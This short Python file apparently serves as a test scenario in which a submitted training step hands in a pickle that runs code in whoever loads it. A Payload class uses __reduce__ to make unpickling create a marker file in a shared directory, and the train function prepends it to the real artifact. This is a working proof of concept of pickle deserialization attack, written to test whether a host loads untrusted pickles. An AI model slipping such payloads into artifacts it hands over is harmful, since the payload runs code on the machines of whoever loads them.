"""Hand in a pickle that runs in whoever loads it.

Ends: honest
Needs: host
"""

from __future__ import annotations

import pickle

from facts import SHARED
from honest import learn, load, run


class Payload:
    def __reduce__(self):
        return open, (f"{SHARED}/unpickled", "w")


PICKLE = pickle.dumps(Payload())
run(train=lambda data: PICKLE + learn(data), load=lambda artifact: load(artifact[len(PICKLE) :]))
